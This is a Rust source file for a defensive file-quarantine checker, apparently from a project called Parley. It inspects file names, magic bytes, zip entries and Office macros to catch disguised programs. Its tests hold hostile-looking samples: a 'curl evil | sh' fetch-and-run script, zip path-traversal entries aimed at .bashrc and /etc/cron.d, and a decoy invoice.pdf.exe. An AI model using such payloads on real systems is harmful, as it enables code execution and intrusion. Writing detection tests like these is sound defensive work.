//! The file guard: decides whether a received file may leave quarantine, from its name, its
//! real type and, for zips, the names inside.
//!
//! Everything about an incoming file is chosen by the sender: the name, the declared MIME
//! type and the bytes. This module trusts none of them and checks each against the others:
//!
//! - **Name** ([`safe_name`]): bidi and zero-width characters, control characters, paths
//!   and `..`, Windows device names and forbidden characters, leading dots, trailing dots
//!   and spaces, padding, over-long names. The result is a name that is safe to save and
//!   shows the real extension; a decoy double extension (`invoice.pdf.exe`) is reported.
//! - **Extension**: the built-in danger list, derived from Chromium's Safe Browsing
//!   download file types (`data/dangerous_file_types.txt`), and the organisation's
//!   `BlockedFileExtensions` / `AllowedFileExtensions` ([`FileRules`]).
//! - **Type** ([`detect`]): the content's magic bytes against the extension and the
//!   declared MIME type. Content that runs code (a program, a script, a shortcut, an
//!   installer) under a name or type that says otherwise is blocked.
//! - **Archives**: the zip central directory is listed (nothing is extracted) and every
//!   name inside gets the same checks; path traversal, symbolic links, nested archives,
//!   encryption and macros in Office documents are reported.
//!
//! Each signal is a [`Reason`]; the [`Verdict`] is the most severe one:
//!
//! - `allow`: nothing found, or only `info` reasons (the name was tidied);
//! - `warn`: released only after the user acknowledges the reasons;
//! - `block`: never released.
//!
//! These checks complement the organisation's antivirus (`parley_guard::scan`); they do not
//! look for malware, only for files that are dangerous by type or disguised.
//!
//! ```
//! use parley_guard::file::{FileRules, ReasonCode, Verdict, inspect_bytes};
//!
//! let rules = FileRules::default();
//! let pdf = inspect_bytes(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "report.pdf", Some("application/pdf"), &rules);
//! assert_eq!(pdf.verdict, Verdict::Allow);
//!
//! let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0";
//! let disguised = inspect_bytes(elf, "holiday.jpg", Some("image/jpeg"), &rules);
//! assert_eq!(disguised.verdict, Verdict::Block);
//! assert_eq!(disguised.reasons[0].code, ReasonCode::ExecutableDisguised);
//!
//! let rtlo = inspect_bytes(b"MZ", "photo\u{202E}gpj.exe", None, &rules);
//! assert_eq!(rtlo.safe_name, "photogpj.exe");
//! assert_eq!(rtlo.verdict, Verdict::Block);
//! ```

mod lists;
mod magic;
mod name;
mod ole;
mod reason;
mod source;
mod zip;

use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

pub use magic::{DetectedType, HEAD_LEN, detect};
pub use name::{FALLBACK_NAME, MAX_NAME_BYTES, SafeName, safe_name};
pub use reason::{Reason, ReasonCode, Severity};
pub use zip::MAX_ENTRIES as MAX_ARCHIVE_ENTRIES;

use lists::{Decision, Family, Kind};
use name::{ascii_only, escape_for_display, extension_of};
use source::{FileSource, Source};
use zip::{Listing, ZipRead};

/// Archive entries named in a reason's detail at most.
const DETAIL_ENTRIES: usize = 5;

/// The decision for one file.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum Verdict {
    /// May be released (after the antivirus, when policy requires a scan).
    Allow,
    /// Released only after the user acknowledges the reasons.
    Warn,
    /// Never released.
    Block,
}

/// The organisation's file settings (policy keys `BlockedFileExtensions`,
/// `AllowedFileExtensions`): lower-case extensions without the leading dot; an entry may
/// have several parts (`tar.gz`).
///
/// A file whose name ends in a blocked extension is blocked. When the allow-list is not
/// empty, a file whose name ends in none of its extensions is blocked too; blocked wins over
/// allowed. The built-in danger list applies either way: a dangerous type the organisation
/// does not block is still a warning.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FileRules {
    /// Extensions that are never released (default: the built-in danger list).
    pub blocked_extensions: Vec<String>,
    /// If not empty, the only extensions that may be released.
    pub allowed_extensions: Vec<String>,
}

impl Default for FileRules {
    /// The hardened defaults of DESIGN.md §4.
    fn default() -> Self {
        Self::from_policy(&parley_policy::Policy::hardened_default())
    }
}

impl FileRules {
    /// The file settings of an effective policy.
    pub fn from_policy(policy: &parley_policy::Policy) -> Self {
        let normalise = |list: &[String]| {
            let mut out: Vec<String> = list
                .iter()
                .map(|e| e.trim().trim_start_matches('.').to_lowercase())
                .filter(|e| !e.is_empty())
                .collect();
            out.sort();
            out.dedup();
            out
        };
        Self {
            blocked_extensions: normalise(&policy.blocked_file_extensions),
            allowed_extensions: normalise(&policy.allowed_file_extensions),
        }
    }
}

/// One entry of a zip, as listed in a [`FileReport`].
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ArchiveEntry {
    /// The path inside the archive, with invisible and control characters written as
    /// `\u{…}` (safe to display, not cleaned).
    pub name: String,
    /// Uncompressed size as the archive declares it.
    pub size: u64,
    /// Whether the entry is encrypted.
    pub encrypted: bool,
    /// Whether the entry is a folder.
    pub directory: bool,
    /// The archive reasons this entry contributes to (`archive_dangerous_entry`, …).
    pub codes: Vec<ReasonCode>,
}

/// Everything the quarantine and the confirmation dialog need about one file
/// (`parleyctl file inspect --json`, DESIGN.md §5).
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct FileReport {
    /// The most severe reason, or `allow` when there is none above `info`.
    pub verdict: Verdict,
    /// The name to save the file under ([`safe_name`]).
    pub safe_name: String,
    /// What the content really is, when recognised.
    pub detected_type: Option<DetectedType>,
    /// Every signal found, most severe first, one per code.
    pub reasons: Vec<Reason>,
    /// The zip's entries (at most [`MAX_ARCHIVE_ENTRIES`]), when the file is or contains a zip.
    pub archive_entries: Option<Vec<ArchiveEntry>>,
}

/// Why a file could not be inspected.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum FileError {
    /// The file could not be opened or read.
    #[error("cannot read {}: {source}", path.display())]
    Read {
        /// The file.
        path: PathBuf,
        /// What went wrong.
        #[source]
        source: std::io::Error,
    },
    /// The path is not a regular file (a folder, a device, a pipe).
    #[error("{} is not a regular file", path.display())]
    NotAFile {
        /// The path.
        path: PathBuf,
    },
}

/// Inspects the file at `path`, received as `declared_name` with `declared_mime`.
///
/// Reads only the first [`HEAD_LEN`] bytes, the end of the file (where a zip keeps its
/// directory), the zip directory and, for OLE files, their directory sectors.
pub fn inspect_path(
    path: &Path,
    declared_name: &str,
    declared_mime: Option<&str>,
    rules: &FileRules,
) -> Result<FileReport, FileError> {
    let read_error = |source| FileError::Read { path: path.to_owned(), source };
    // Opening a pipe would block: look first.
    if !std::fs::metadata(path).map_err(read_error)?.is_file() {
        return Err(FileError::NotAFile { path: path.to_owned() });
    }
    let file = std::fs::File::open(path).map_err(read_error)?;
    let mut src = FileSource::new(file).map_err(read_error)?;
    analyse(&mut src, declared_name, declared_mime, rules).map_err(read_error)
}

/// Inspects content held in memory; the same checks as [`inspect_path`].
pub fn inspect_bytes(
    bytes: &[u8],
    declared_name: &str,
    declared_mime: Option<&str>,
    rules: &FileRules,
) -> FileReport {
    let mut src = bytes;
    let Ok(report) = analyse(&mut src, declared_name, declared_mime, rules);
    report
}

fn analyse<S: Source>(
    src: &mut S,
    declared_name: &str,
    declared_mime: Option<&str>,
    rules: &FileRules,
) -> Result<FileReport, S::Error> {
    let safe = safe_name(declared_name);
    let mut reasons = safe.reasons;
    reasons.extend(check_extension(&safe.name, rules));
    let name_ext = extension_of(&safe.name);

    let head = src.read_at(0, HEAD_LEN)?;
    let mut detected = magic::sniff(&head);
    if head.starts_with(&ole::MAGIC) {
        let info = ole::read(src, &head)?;
        if let Some(detected) = detected.as_mut() {
            magic::refine_ole(detected, &info);
        }
        if info.has_macros {
            reasons.push(Reason::new(
                ReasonCode::MacroDocument,
                "This document contains macros: small programs that run when it is opened.",
            ));
        }
    }

    let zip_head = magic::is_zip_magic(&head);
    let mut archive_entries = None;
    match zip::read(src)? {
        ZipRead::Listing(listing) if zip_head || !listing.entries.is_empty() => {
            if zip_head {
                if let Some(detected) = detected.as_mut() {
                    magic::refine_zip(detected, &listing.entries);
                }
                if magic::zip_has_macros(&listing.entries) {
                    reasons.push(Reason::new(
                        ReasonCode::MacroDocument,
                        "This document contains macros: small programs that run when it is opened.",
                    ));
                }
            } else {
                reasons.push(Reason::new(
                    ReasonCode::AppendedArchive,
                    "A zip archive is hidden at the end of this file; some programs open that instead.",
                ));
            }
            let container = zip_head && detected.as_ref().is_some_and(magic::is_document_container);
            archive_entries = Some(check_entries(&listing, container, rules, &mut reasons));
        }
        ZipRead::Corrupt(why) if zip_head => reasons.push(
            Reason::new(
                ReasonCode::ArchiveUnreadable,
                "This zip archive is damaged, so Parley cannot check what it holds.",
            )
            .with_detail(why),
        ),
        ZipRead::NotFound if zip_head => reasons.push(
            Reason::new(
                ReasonCode::ArchiveUnreadable,
                "This zip archive is incomplete, so Parley cannot check what it holds.",
            )
            .with_detail("no end of central directory record"),
        ),
        _ => {}
    }

    if let Some(detected) = &detected {
        check_content(detected, name_ext.as_deref(), declared_mime, rules, &mut reasons);
    } else if let (Some(declared), Some(ext)) =
        (declared_mime.and_then(lists::family_of_mime), name_ext.as_deref())
        && let Some(named) = lists::family_of_extension(ext)
        && !named.compatible(declared)
    {
        reasons.push(declared_mismatch(declared, named, declared_mime));
    }

    let archive_name =
        name_ext.as_deref().and_then(lists::danger).is_some_and(|e| e.decision == Decision::Archive);
    let archive_content = detected.as_ref().is_some_and(|d| d.family() == Some(Family::Archive));
    if archive_entries.is_none() && !zip_head && (archive_name || archive_content) {
        reasons.push(Reason::new(
            ReasonCode::ArchiveNotInspected,
            "Parley cannot look inside this kind of archive; only your organisation's antivirus checks what it holds.",
        ));
    }

    Ok(finish(FileReport {
        verdict: Verdict::Allow,
        safe_name: safe.name,
        detected_type: detected,
        reasons,
        archive_entries,
    }))
}

/// Sorts the reasons (most severe first, each code once) and derives the verdict.
fn finish(mut report: FileReport) -> FileReport {
    let mut seen = std::collections::HashSet::new();
    report.reasons.retain(|r| seen.insert(r.code));
    report.reasons.sort_by_key(|r| std::cmp::Reverse(r.severity));
    report.verdict = match report.reasons.first().map(|r| r.severity) {
        None | Some(Severity::Info) => Verdict::Allow,
        Some(Severity::Warn) => Verdict::Warn,
        Some(Severity::Block) => Verdict::Block,
    };
    report
}

/// Whether `name` (lower case) ends in `.extension` after a non-empty stem.
fn has_extension(name: &str, extension: &str) -> bool {
    !extension.is_empty()
        && name.strip_suffix(extension).and_then(|s| s.strip_suffix('.')).is_some_and(|stem| !stem.is_empty())
}

/// The danger list and the organisation's lists, applied to a (safe) name.
fn check_extension(name: &str, rules: &FileRules) -> Vec<Reason> {
    let lower = name.to_lowercase();
    let ext = extension_of(&lower);
    let entry = ext.as_deref().and_then(lists::danger).filter(|e| e.decision != Decision::Archive);
    let blocked = rules.blocked_extensions.iter().find(|b| has_extension(&lower, b));
    let mut out = Vec::new();
    match (blocked, entry) {
        (Some(_), Some(entry)) => out.push(danger_reason(entry, Severity::Block, false)),
        (Some(blocked), None) => out.push(Reason::new(
            ReasonCode::BlockedByPolicy,
            format!("Your organisation does not allow .{} files.", ascii_only(blocked)),
        )),
        (None, Some(entry)) => {
            out.push(danger_reason(entry, Severity::Warn, entry.decision == Decision::Block));
        }
        (None, None) => {}
    }
    if blocked.is_none()
        && !rules.allowed_extensions.is_empty()
        && !rules.allowed_extensions.iter().any(|a| has_extension(&lower, a))
    {
        out.push(Reason::new(
            ReasonCode::NotOnAllowList,
            match ext {
                Some(ext) => format!(
                    "Your organisation only allows some kinds of files, and .{} is not one of them.",
                    ascii_only(&ext)
                ),
                None => "Your organisation only allows some kinds of files, and this one has no extension."
                    .to_owned(),
            },
        ));
    }
    out
}

/// The reason for a danger-list extension: `relaxed` when the list blocks it but the
/// organisation's own list lets it through.
fn danger_reason(entry: &lists::DangerEntry, severity: Severity, relaxed: bool) -> Reason {
    let ext = entry.extension;
    let (code, message) = match entry.kind {
        Kind::MacroDocument => (
            ReasonCode::MacroDocument,
            format!(".{ext} files can contain macros: small programs that run when the document is opened."),
        ),
        Kind::ActiveContent => (
            ReasonCode::HtmlOrSvg,
            format!(".{ext} files can run code when they are opened in a web browser."),
        ),
        kind => (
            ReasonCode::DangerousExtension,
            match kind {
                Kind::Executable => {
                    format!(".{ext} files are programs: opening one runs it on your computer.")
                }
                Kind::Script => {
                    format!(".{ext} files are scripts: opening one runs commands on your computer.")
                }
                Kind::Installer => format!(".{ext} files install software on your computer."),
                Kind::Shortcut => {
                    format!(".{ext} files are shortcuts that can start any program or open any website.")
                }
                Kind::DiskImage => {
                    format!(".{ext} files are disk images, which can hide programs from security checks.")
                }
                Kind::Java => format!(".{ext} files are Java programs."),
                Kind::Library => format!(".{ext} files hold program code that other programs load and run."),
                Kind::System => format!(".{ext} files change settings of your computer or its programs."),
                _ => format!(".{ext} files can be misused to harm your computer."),
            },
        ),
    };
    let message = if relaxed {
        format!("{message} Your organisation allows them: open it only if you expected it.")
    } else {
        message
    };
    Reason::new(code, message).with_severity(severity).with_detail(entry.provenance())
}

/// The content against the name, the declared MIME type and the rules.
fn check_content(
    detected: &DetectedType,
    name_ext: Option<&str>,
    declared_mime: Option<&str>,
    rules: &FileRules,
    out: &mut Vec<Reason>,
) {
    let content = detected.family();
    let named = name_ext.and_then(lists::family_of_extension);
    let declared = declared_mime.and_then(lists::family_of_mime);

    if detected.executable {
        let name_says_code = name_ext.is_some_and(lists::admits_code);
        let mime_hides_code = declared.is_some_and(|d| {
            !matches!(d, Family::Executable | Family::Shortcut | Family::Script) && Some(d) != content
        });
        if !name_says_code || mime_hides_code {
            let mut hidden_by = Vec::new();
            if !name_says_code {
                hidden_by.push(match name_ext {
                    Some(ext) => format!("the name ends in .{}", ascii_only(ext)),
                    None => "the name has no extension".to_owned(),
                });
            }
            if mime_hides_code && let Some(d) = declared {
                hidden_by.push(format!("the sender says it is {}", d.describe()));
            }
            out.push(
                Reason::new(
                    ReasonCode::ExecutableDisguised,
                    "This file is really a program, script or shortcut disguised as something harmless.",
                )
                .with_detail(format!(
                    "the content is {}, but {}",
                    detected.describe(),
                    hidden_by.join(" and ")
                )),
            );
        }
        return;
    }

    if let (Some(content), Some(named), Some(ext)) = (content, named, name_ext)
        && !content.compatible(named)
    {
        out.push(
            Reason::new(
                ReasonCode::TypeMismatch,
                format!(
                    "The file is really {}, not the .{} file its name says.",
                    content.describe(),
                    ascii_only(ext)
                ),
            )
            .with_detail(format!("detected {}", detected.mime)),
        );
        // The real type must pass the same rules, or renaming would bypass them.
        for reason in check_extension(&format!("content.{}", detected.extension), rules) {
            if reason.severity >= Severity::Warn {
                out.push(Reason {
                    message: format!(
                        "The content is really a .{} file. {}",
                        ascii_only(&detected.extension),
                        reason.message
                    ),
                    ..reason
                });
            }
        }
    }

    if let (Some(declared), Some(actual)) = (declared, content)
        && !actual.compatible(declared)
    {
        out.push(declared_mismatch(declared, actual, declared_mime));
    }
}

fn declared_mismatch(declared: Family, actual: Family, declared_mime: Option<&str>) -> Reason {
    let shown: String = declared_mime
        .unwrap_or_default()
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || "/+.-;= ".contains(*c))
        .take(100)
        .collect();
    Reason::new(
        ReasonCode::DeclaredMimeMismatch,
        format!("The sender says this is {}, but it is {}.", declared.describe(), actual.describe()),
    )
    .with_detail(format!("declared {shown}"))
}

/// What the names in a zip say; fills `out` and returns the listing for the report.
fn check_entries(
    listing: &Listing,
    container: bool,
    rules: &FileRules,
    out: &mut Vec<Reason>,
) -> Vec<ArchiveEntry> {
    let mut dangerous = Vec::new();
    let mut suspicious = Vec::new();
    let mut traversal = Vec::new();
    let mut nested = Vec::new();
    let mut encrypted = 0usize;
    let mut entries = Vec::with_capacity(listing.entries.len());

    for raw in &listing.entries {
        let display = escape_for_display(&raw.name);
        let codes = entry_codes(raw, container, rules);
        for code in &codes {
            match code {
                ReasonCode::ArchiveDangerousEntry => dangerous.push(display.clone()),
                ReasonCode::ArchiveSuspiciousEntry => suspicious.push(display.clone()),
                ReasonCode::ArchivePathTraversal => traversal.push(display.clone()),
                ReasonCode::ArchiveNested => nested.push(display.clone()),
                _ => {}
            }
        }
        encrypted += usize::from(raw.encrypted);
        entries.push(ArchiveEntry {
            name: display,
            size: raw.size,
            encrypted: raw.encrypted,
            directory: raw.name.ends_with('/') || raw.name.ends_with('\\'),
            codes,
        });
    }

    let mut push = |code: ReasonCode, message: &str, names: &[String]| {
        if !names.is_empty() {
            out.push(Reason::new(code, message).with_detail(list_names(names)));
        }
    };
    push(
        ReasonCode::ArchivePathTraversal,
        "The archive holds files that would be written outside the folder it is extracted to.",
        &traversal,
    );
    push(
        ReasonCode::ArchiveDangerousEntry,
        "The archive holds files that would be blocked on their own, such as programs or scripts.",
        &dangerous,
    );
    push(
        ReasonCode::ArchiveSuspiciousEntry,
        "The archive holds files with deceptive or risky names.",
        &suspicious,
    );
    push(
        ReasonCode::ArchiveNested,
        "The archive holds other archives, which Parley does not open; only your antivirus checks them.",
        &nested,
    );
    if encrypted > 0 {
        out.push(
            Reason::new(
                ReasonCode::ArchiveUnreadable,
                "Files in this archive are encrypted, so neither Parley nor your antivirus can check them.",
            )
            .with_detail(format!("{encrypted} encrypted entries")),
        );
    } else if listing.truncated || listing.entries.iter().any(|e| e.long_name) {
        out.push(
            Reason::new(
                ReasonCode::ArchiveUnreadable,
                "This archive holds too many files, or names too long, for Parley to check them all.",
            )
            .with_detail(format!("{} entries checked", listing.entries.len())),
        );
    }
    entries
}

/// The archive reasons one entry contributes to: the same checks as a file of that name,
/// plus traversal (both for the stored name and its Unicode Path, which extractors may
/// prefer). The entries of document containers (Office, `OpenDocument`, JAR…) are parts,
/// not files: only traversal applies to them.
fn entry_codes(raw: &zip::RawEntry, container: bool, rules: &FileRules) -> Vec<ReasonCode> {
    let mut codes = Vec::new();
    let names = std::iter::once(raw.name.as_str()).chain(raw.unicode_name.as_deref());
    for candidate in names {
        let path = candidate.replace('\\', "/");
        let drive = path.as_bytes().get(1) == Some(&b':') && path.as_bytes()[0].is_ascii_alphabetic();
        if path.starts_with('/') || drive || path.split('/').any(|p| p.trim() == "..") || raw.symlink {
            codes.push(ReasonCode::ArchivePathTraversal);
        }
        if container {
            continue;
        }
        let base = path.trim_end_matches('/').rsplit('/').next().unwrap_or_default();
        if base.is_empty() {
            continue;
        }
        let safe = safe_name(base);
        let checks = check_extension(&safe.name, rules);
        let deceptive =
            safe.reasons.iter().any(|r| r.severity >= Severity::Warn && r.code != ReasonCode::PathSeparators);
        if checks.iter().any(|r| r.severity == Severity::Block) {
            codes.push(ReasonCode::ArchiveDangerousEntry);
        } else if deceptive || checks.iter().any(|r| r.code == ReasonCode::DangerousExtension) {
            codes.push(ReasonCode::ArchiveSuspiciousEntry);
        }
        let ext = extension_of(&safe.name);
        let family = ext.as_deref().and_then(lists::family_of_extension);
        if family == Some(Family::Archive) || matches!(ext.as_deref(), Some("zip" | "zipx")) {
            codes.push(ReasonCode::ArchiveNested);
        }
    }
    codes.sort_by_key(|c| c.as_str());
    codes.dedup();
    codes
}

/// The first few names, and how many more.
fn list_names(names: &[String]) -> String {
    let shown: Vec<&str> = names.iter().take(DETAIL_ENTRIES).map(String::as_str).collect();
    let detail = shown.join(", ");
    if names.len() > DETAIL_ENTRIES {
        format!("{detail} and {} more", names.len() - DETAIL_ENTRIES)
    } else {
        detail
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn codes(report: &FileReport) -> Vec<&'static str> {
        report.reasons.iter().map(|r| r.code.as_str()).collect()
    }

    fn inspect(bytes: &[u8], name: &str, mime: Option<&str>) -> FileReport {
        inspect_bytes(bytes, name, mime, &FileRules::default())
    }

    const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0";

    #[test]
    fn clean_files_are_allowed() {
        let png = inspect(PNG, "cat.png", Some("image/png"));
        assert_eq!((png.verdict, codes(&png)), (Verdict::Allow, vec![]));
        assert_eq!(png.detected_type.map(|t| t.extension), Some("png".to_owned()));
        let text = inspect(b"minutes of the meeting\n", "minutes.txt", Some("text/plain"));
        assert_eq!(text.verdict, Verdict::Allow);
        let empty = inspect(b"", "empty.txt", None);
        assert_eq!((empty.verdict, empty.detected_type), (Verdict::Allow, None));
    }

    #[test]
    fn dangerous_names_are_blocked() {
        let exe = inspect(b"MZ", "setup.exe", None);
        assert_eq!((exe.verdict, codes(&exe)[0]), (Verdict::Block, "dangerous_extension"));
        assert!(exe.reasons[0].detail.as_deref().is_some_and(|d| d.contains("Chromium")));
        let html = inspect(b"<html><body>hi</body></html>", "page.html", Some("text/html"));
        assert_eq!((html.verdict, codes(&html)), (Verdict::Warn, vec!["html_or_svg"]));
        let docm = inspect(b"", "report.docm", None);
        assert_eq!((docm.verdict, codes(&docm)), (Verdict::Block, vec!["macro_document"]));
    }

    #[test]
    fn policy_lists() {
        let rules =
            FileRules { blocked_extensions: vec!["pdf".into(), "tar.gz".into()], allowed_extensions: vec![] };
        let pdf = inspect_bytes(b"%PDF-1.4\n", "a.pdf", None, &rules);
        assert_eq!(codes(&pdf), ["blocked_by_policy"]);
        assert_eq!(codes(&inspect_bytes(b"", "b.tar.gz", None, &rules))[0], "blocked_by_policy");
        // The organisation's list replaced the built-in one: .exe is only a warning now.
        let exe = inspect_bytes(b"", "tool.exe", None, &rules);
        assert_eq!((exe.verdict, codes(&exe)), (Verdict::Warn, vec!["dangerous_extension"]));

        let allow = FileRules {
            blocked_extensions: vec!["exe".into()],
            allowed_extensions: vec!["pdf".into(), "exe".into()],
        };
        assert_eq!(inspect_bytes(b"%PDF-1.4\n", "a.pdf", None, &allow).verdict, Verdict::Allow);
        assert_eq!(codes(&inspect_bytes(b"x", "a.txt", None, &allow)), ["not_on_allow_list"]);
        assert_eq!(codes(&inspect_bytes(b"x", "noext", None, &allow)), ["not_on_allow_list"]);
        assert_eq!(inspect_bytes(b"", "a.exe", None, &allow).verdict, Verdict::Block); // blocked wins
        // Renaming does not get around the allow-list.
        let renamed = inspect_bytes(PNG, "photo.pdf", None, &allow);
        assert!(codes(&renamed).contains(&"not_on_allow_list"), "{:?}", codes(&renamed));

        let mut policy = parley_policy::Policy::hardened_default();
        policy.blocked_file_extensions = vec![" .EXE ".into(), "exe".into(), String::new()];
        assert_eq!(FileRules::from_policy(&policy).blocked_extensions, ["exe"]);
    }

    #[test]
    fn disguised_content() {
        let elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0";
        for (name, mime) in [("photo.jpg", None), ("photo.jpg", Some("image/jpeg")), ("README", None)] {
            let report = inspect(elf, name, mime);
            assert_eq!(codes(&report), ["executable_disguised"], "{name}");
        }
        let honest = inspect(elf, "tool.run", None);
        assert_eq!(codes(&honest), ["dangerous_extension"]);
        let lying_mime = inspect(elf, "tool.run", Some("image/png"));
        assert!(codes(&lying_mime).contains(&"executable_disguised"));
        let script = inspect(b"#!/bin/sh\ncurl evil | sh\n", "notes.txt", Some("text/plain"));
        assert_eq!(codes(&script), ["executable_disguised"]);
    }

    #[test]
    fn mismatches() {
        let pdf_as_jpg = inspect(b"%PDF-1.4\n%\xe2\xe3\n", "photo.jpg", Some("image/jpeg"));
        assert_eq!(pdf_as_jpg.verdict, Verdict::Warn);
        assert_eq!(codes(&pdf_as_jpg), ["type_mismatch", "declared_mime_mismatch"]);
        let png_as_jpg = inspect(PNG, "photo.jpg", Some("image/jpeg"));
        assert_eq!(png_as_jpg.verdict, Verdict::Allow);
        let svg_as_png =
            inspect(b"<svg xmlns='http://www.w3.org/2000/svg'><script>x</script></svg>", "logo.png", None);
        assert_eq!(svg_as_png.verdict, Verdict::Block);
        assert!(codes(&svg_as_png).contains(&"html_or_svg"));
        let html_as_txt = inspect(b"<!DOCTYPE html><script>steal()</script>", "notes.txt", None);
        assert_eq!(html_as_txt.verdict, Verdict::Warn);
        assert_eq!(codes(&html_as_txt), ["type_mismatch", "html_or_svg"]);
    }

    #[test]
    fn zips() {
        let evil = zip::build(&[("readme.txt", b"hi"), ("docs/invoice.pdf.exe", b"MZ")]);
        let report = inspect(&evil, "docs.zip", Some("application/zip"));
        assert_eq!(report.verdict, Verdict::Block);
        assert_eq!(codes(&report), ["archive_dangerous_entry"]);
        let entries = report.archive_entries.unwrap_or_default();
        assert_eq!(entries.len(), 2);
        assert_eq!(entries[1].codes, [ReasonCode::ArchiveDangerousEntry]);
        assert!(report.reasons[0].detail.as_deref().is_some_and(|d| d.contains("invoice.pdf.exe")));

        let slip = zip::build(&[("../../.bashrc", b"x"), ("/etc/cron.d/x", b"x")]);
        assert_eq!(codes(&inspect(&slip, "a.zip", None))[0], "archive_path_traversal");
        let nested = zip::build(&[("inner.zip", b"PK\x05\x06")]);
        assert_eq!(codes(&inspect(&nested, "a.zip", None)), ["archive_nested"]);
        let clean = zip::build(&[("a.txt", b"a"), ("b/", b"")]);
        assert_eq!(inspect(&clean, "a.zip", None).verdict, Verdict::Allow);

        let docm = zip::build(&[
            ("[Content_Types].xml", b"<Types/>"),
            ("word/document.xml", b"<w/>"),
            ("word/vbaProject.bin", b"x"),
            ("word/_rels/document.xml.rels", b"<r/>"),
        ]);
        let report = inspect(&docm, "report.docx", None);
        assert_eq!(codes(&report), ["macro_document"]);
        assert_eq!(report.detected_type.map(|t| t.extension), Some("docm".to_owned()));

        let mut broken = zip::build(&[("a.txt", b"a")]);
        broken.truncate(40);
        assert_eq!(codes(&inspect(&broken, "a.zip", None)), ["archive_unreadable"]);

        let mut polyglot = PNG.to_vec();
        polyglot.extend(zip::build(&[("run.js", b"x")]));
        let report = inspect(&polyglot, "cat.png", None);
        assert_eq!(codes(&report), ["archive_dangerous_entry", "appended_archive"]);
    }

    #[test]
    fn legacy_office_macros() {
        let doc = ole::build(None, &["WordDocument", "Macros", "VBA"]);
        let report = inspect(&doc, "letter.doc", Some("application/msword"));
        assert_eq!((report.verdict, codes(&report)), (Verdict::Block, vec!["macro_document"]));
        let clean = ole::build(None, &["WordDocument", "1Table"]);
        assert_eq!(inspect(&clean, "letter.doc", Some("application/msword")).verdict, Verdict::Allow);
        let msi = ole::build(Some(ole::MSI_CLSID), &[]);
        assert_eq!(codes(&inspect(&msi, "letter.doc", None)), ["executable_disguised"]);
    }

    #[test]
    fn other_archives_are_noted() {
        let report = inspect(b"7z\xBC\xAF\x27\x1C\0\x04", "photos.7z", None);
        assert_eq!((report.verdict, codes(&report)), (Verdict::Allow, vec!["archive_not_inspected"]));
    }

    #[test]
    fn report_json_matches_the_contract() {
        let report = inspect(b"MZ", "x.exe", None);
        let json = serde_json::to_value(&report).unwrap_or_default();
        assert_eq!(json["verdict"], "block");
        assert_eq!(json["safe_name"], "x.exe");
        assert_eq!(json["reasons"][0]["code"], "dangerous_extension");
        assert_eq!(json["reasons"][0]["severity"], "block");
        assert!(json["reasons"][0]["message"].is_string());
        assert!(json.get("detected_type").is_some() && json.get("archive_entries").is_some());
    }

    #[test]
    fn inspect_path_reads_files() {
        let dir = std::env::temp_dir().join(format!("parley-file-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap_or_else(|e| panic!("{e}"));
        let path = dir.join("payload");
        let mut zip = b"\x7fELF\x02\x01\x01\0".to_vec();
        zip.resize(20_000, 0);
        zip.extend(zip::build(&[("x.sh", b"#!/bin/sh\n")]));
        std::fs::write(&path, &zip).unwrap_or_else(|e| panic!("{e}"));
        let from_disk =
            inspect_path(&path, "x.bin", None, &FileRules::default()).unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(from_disk, inspect(&zip, "x.bin", None));
        assert!(codes(&from_disk).contains(&"executable_disguised"));
        assert!(matches!(
            inspect_path(&dir, "x", None, &FileRules::default()),
            Err(FileError::NotAFile { .. })
        ));
        assert!(matches!(
            inspect_path(&dir.join("missing"), "x", None, &FileRules::default()),
            Err(FileError::Read { .. })
        ));
        let _ = std::fs::remove_dir_all(&dir);
    }
}
